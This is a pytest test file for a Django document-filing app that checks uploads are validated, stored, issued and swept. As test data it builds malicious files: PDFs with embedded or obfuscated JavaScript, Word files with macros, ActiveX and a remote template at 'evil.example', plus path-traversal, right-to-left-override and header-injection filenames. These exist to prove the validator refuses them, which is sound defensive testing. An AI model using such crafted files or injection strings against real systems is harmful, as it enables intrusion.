"""Files of documents: what is taken, what is refused, what stays once a document is issued."""

import hashlib
import os
import zipfile
import zlib
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document as Word
from PIL import Image
from pypdf import PdfWriter

from tests.documents.test_issuing import issued, plan
from toso.demo.world import World
from toso.documents import files, filing
from toso.documents.issuing import Refused, discard
from toso.documents.models import Attachment, File
from toso.journal.models import Entry
from toso.kit.uploads import MOST, BadPaper, Paper, clean_name, judge

SIGNED, OTHER = Attachment.Kind.SIGNED, Attachment.Kind.OTHER


@pytest.fixture(autouse=True)
def _folder(tmp_path: Path, settings: Any) -> None:
    settings.MEDIA_ROOT = tmp_path


def pdf(more: bytes = b"") -> bytes:
    writer, out = PdfWriter(), BytesIO()
    writer.add_blank_page(595, 842)
    writer.write(out)
    return out.getvalue().replace(b"%%EOF", more + b"%%EOF")


def picture(kind: str = "JPEG", size: tuple[int, int] = (600, 800)) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


def word(**parts: bytes) -> bytes:
    out = BytesIO()
    Word().save(out)
    with zipfile.ZipFile(out, "a") as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def remote_template() -> bytes:
    kind, target = b'Type="http://x/attachedTemplate"', b'Target="http://evil.example/a.dotm"'
    rels = b'<Relationship Id="r1" ' + kind + b" " + target + b' TargetMode="External"/>'
    return word(**{"word___rels__settings.xml.rels2.rels": rels})


def packed_script() -> bytes:
    body = zlib.compress(b"1 0 << /S /J#61vaScript /JS (app.alert(1)) >>")
    return (b"%PDF-1.5\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + body
            + b"\nendstream\nendobj\n%%EOF")  # fmt: skip


@pytest.mark.parametrize(("content", "kind"), [
    (pdf(), "pdf"), (word(), "docx"), (picture(), "jpg"), (picture("PNG"), "png"),
    (picture("WEBP"), "webp"),
])  # fmt: skip
def test_a_paper_is_known_by_its_content_whatever_its_name(content: bytes, kind: str) -> None:
    paper = judge("Kế hoạch 12.exe", content)
    assert (paper.kind, paper.name) == (kind, f"Kế hoạch 12.{kind}")
    assert paper.sha256 == hashlib.sha256(content).hexdigest()


@pytest.mark.parametrize(("content", "said"), [
    (b"", "rỗng"),
    (b"MZ\x90\x00" + bytes(500), "không phải PDF, Word hay ảnh"),
    (b"<html><script>alert(1)</script>", "không phải PDF, Word hay ảnh"),
    (b"%PDF-1.7\n" + bytes(9000), "bị đứt"),
    (pdf(b"9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n"), "mã chạy"),
    (pdf(b"9 0 obj << /Type /EmbeddedFile >> endobj\n"), "mã chạy hoặc tệp đính kèm"),
    (pdf(b"trailer << /Encrypt 8 0 R >>\n"), "mật khẩu"),
    (packed_script(), "mã chạy"),
    (word(word__vbaProject=b"x"), "macro"),
    (word(**{"word__activeX__activeX1.xml": b"<x/>"}), "macro"),
    (remote_template(), "macro"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument_VBA_PROJECT".encode("utf-16-le"), "macro"),
    (b"PK\x03\x04" + bytes(100), "bị hỏng"),
    (picture("PNG", (9000, 9000)), "quá lớn"),
    (picture()[:400], "không phải"),
])  # fmt: skip
def test_what_runs_or_lies_is_refused_with_the_next_step(content: bytes, said: str) -> None:
    with pytest.raises(BadPaper) as refused:
        judge("a.pdf", content)
    assert said in refused.value.messages[0] and "Hãy" in refused.value.messages[0]


def test_a_paper_too_heavy_says_how_to_make_it_light() -> None:
    with pytest.raises(BadPaper, match="20 MB"):
        judge("a.pdf", b"%PDF-" + bytes(MOST))


@pytest.mark.parametrize(("typed", "kept"), [
    ("../../etc/passwd", "passwd.pdf"),
    ("C:\\Users\\Chi\\Quyết định 12.PDF", "Quyết định 12.pdf"),
    ("bao\u202efdp.exe", "bao fdp.pdf"),
    ("kế hoạch.pdf", "kế hoạch.pdf"),
    ('a<b>"c|?*.pdf', "a b c.pdf"),
    ("...", "van-ban.pdf"), ("", "van-ban.pdf"), ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie x.pdf"),
])  # fmt: skip
def test_a_kept_name_has_no_path_and_no_trick(typed: str, kept: str) -> None:
    assert clean_name(typed, "pdf") == kept
    assert len(clean_name("á" * 400, "pdf")) <= 130


def test_a_draft_takes_files_and_lets_them_go(
    world: World, django_capture_on_commit_callbacks
) -> None:
    draft = plan(world)
    made = filing.attach(draft, judge("a.docx", word()), OTHER, by=None)
    path = files.stored_at(made.file)
    assert hashlib.sha256(path.read_bytes()).hexdigest() == made.file.sha256
    with django_capture_on_commit_callbacks(execute=True):
        filing.detach(made, by=None)
    assert not path.exists() and not File.objects.exists()
    assert Entry.objects.filter(verb="document.detach").exists()


def test_a_draft_thrown_away_takes_its_files_along(
    world, django_capture_on_commit_callbacks
) -> None:
    draft = plan(world)
    made = filing.attach(draft, judge("a.pdf", pdf()), OTHER, by=None)
    path = files.stored_at(made.file)
    with django_capture_on_commit_callbacks(execute=True):
        discard(draft, by=None)
    assert not path.exists() and not File.objects.exists()


def test_a_signed_scan_waits_for_the_number_and_is_a_scan(world: World) -> None:
    scan = judge("ky.pdf", pdf())
    with pytest.raises(Refused, match="chưa có số"):
        filing.attach(plan(world), scan, SIGNED, by=None)
    done = issued(world, 12)
    with pytest.raises(Refused, match="PDF hoặc ảnh"):
        filing.attach(done, judge("ky.docx", word()), SIGNED, by=None)
    filing.attach(done, scan, SIGNED, by=None)
    with pytest.raises(Refused, match="đính kèm rồi"):
        filing.attach(done, scan, SIGNED, by=None)


def test_what_was_issued_keeps_every_file_with_its_history(world: World) -> None:
    done = issued(world, 12)
    first = filing.attach(done, judge("mo.jpg", picture()), SIGNED, by=world.people["chi"])
    with pytest.raises(Refused, match="được giữ lại"):
        filing.detach(first, by=world.people["chi"])
    filing.attach(done, judge("ro.pdf", pdf()), SIGNED, by=world.people["chi"])
    first.refresh_from_db()
    assert first.set_aside_at and first.reason and files.stored_at(first.file).exists()
    annex = filing.attach(done, judge("nham.png", picture("PNG")), OTHER, by=None)
    with pytest.raises(Refused, match="vì sao"):
        filing.set_aside(annex, " ", by=None)
    filing.set_aside(annex, "Nhầm tệp.", by=None)
    assert done.attachments.count() == 3


def test_bytes_that_no_row_knows_are_swept_after_a_day(world: World) -> None:
    made = filing.attach(plan(world), judge("a.pdf", pdf()), OTHER, by=None)
    kept = files.stored_at(made.file)
    lost, fresh = kept.with_name("lost.pdf"), kept.with_name("fresh.pdf")
    for path in (lost, fresh):
        path.write_bytes(b"x")
    os.utime(lost, (0, 0))
    os.utime(kept, (0, 0))
    assert files.sweep() == 1
    assert kept.exists() and fresh.exists() and not lost.exists()


def test_no_more_files_than_a_document_has(world: World, monkeypatch) -> None:
    monkeypatch.setattr(filing, "MOST", 1)
    draft = plan(world)
    filing.attach(draft, judge("a.pdf", pdf()), OTHER, by=None)
    with pytest.raises(Refused, match="gộp các trang"):
        filing.attach(draft, Paper("b.jpg", "jpg", picture()), OTHER, by=None)


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, "application/octet-stream")


def test_files_are_attached_read_and_taken_off_on_the_page(world: World, as_person: Any) -> None:
    draft = plan(world, "Kế hoạch có tệp")
    chi, address = as_person("chi"), f"/documents/{draft.pk}/files/"
    both = [upload("Phụ lục 1.pdf", pdf()), upload("Ảnh trang 2.jpg", picture())]
    assert chi.post(address, {"kind": "annex", "papers": both}).status_code == 302
    page = chi.get(f"/documents/{draft.pk}/").content.decode()
    assert "Phụ lục 1.pdf" in page and "Ảnh trang 2.jpg" in page
    first = draft.attachments.get(file__kind="pdf")
    answer = chi.get(f"{address}{first.pk}/")
    assert b"".join(answer.streaming_content) == pdf()
    assert answer["Content-Disposition"].startswith("attachment;")
    assert "Ph%E1%BB%A5%20l%E1%BB%A5c%201.pdf" in answer["Content-Disposition"]
    assert answer["X-Content-Type-Options"] == "nosniff"
    for person in ("binh", "giang", "nga"):  # a draft is read only where it is written
        assert as_person(person).get(f"{address}{first.pk}/").status_code == 404, person
        assert as_person(person).post(f"{address}{first.pk}/removal/").status_code == 404, person
    assert chi.post(f"{address}{first.pk}/removal/").status_code == 302
    assert draft.attachments.count() == 1


def test_one_bad_file_of_several_says_which_and_nothing_is_kept(
    world: World, as_person: Any
) -> None:
    draft = plan(world)
    both = [upload("tốt.pdf", pdf()), upload("xấu.docm", word(word__vbaProject=b"x"))]
    answer = as_person("chi").post(
        f"/documents/{draft.pk}/files/", {"kind": "annex", "papers": both}
    )
    assert answer.status_code == 422 and not File.objects.exists()
    assert "xấu.docm: Tệp có macro" in answer.content.decode()


def test_a_plan_is_issued_with_its_signed_scan_and_the_scan_is_read_below(
    world: World, as_person: Any
) -> None:
    draft = plan(world, "Kế hoạch đã ký")
    said = {"number": "12", "issued_on": "01/09/2022", "signer": "Phạm Ngọc Dũng",
            "signer_title": "CHỦ TỊCH", "signed": upload("scan0001.pdf", pdf())}  # fmt: skip
    answer = as_person("chi").post(f"/documents/{draft.pk}/issue/", said)
    assert answer.status_code == 302
    page = as_person("binh").get(f"/documents/{draft.pk}/").content.decode()
    assert "Bản đã ký, số 12/KH-UBND ngày 01/09/2022" in page
    scan = draft.attachments.get()
    at = f"/documents/{draft.pk}/files/{scan.pk}/"
    assert as_person("binh").get(at).status_code == 200
    assert as_person("binh").post(f"{at}removal/", {"reason": "x"}).status_code == 404
    answer = as_person("chi").post(f"{at}removal/", {"reason": "Quét thiếu trang 2."}, follow=True)
    assert "thôi dùng tệp" in answer.content.decode(), answer.content.decode()[3000:9000]
    page = as_person("binh").get(f"/documents/{draft.pk}/").content.decode()
    assert "Quét thiếu trang 2." in page and as_person("binh").get(at).status_code == 200


def test_a_bad_scan_refuses_the_number_too_and_loses_nothing_typed(
    world: World, as_person: Any
) -> None:
    draft = plan(world)
    said = {"number": "13", "issued_on": "01/09/2022", "signer": "Phạm Ngọc Dũng",
            "signer_title": "CHỦ TỊCH", "signed": upload("ký.pdf", b"<html>")}  # fmt: skip
    answer = as_person("chi").post(f"/documents/{draft.pk}/issue/", said)
    assert answer.status_code == 422 and "Phạm Ngọc Dũng" in answer.content.decode()
    draft.refresh_from_db()
    assert draft.is_draft
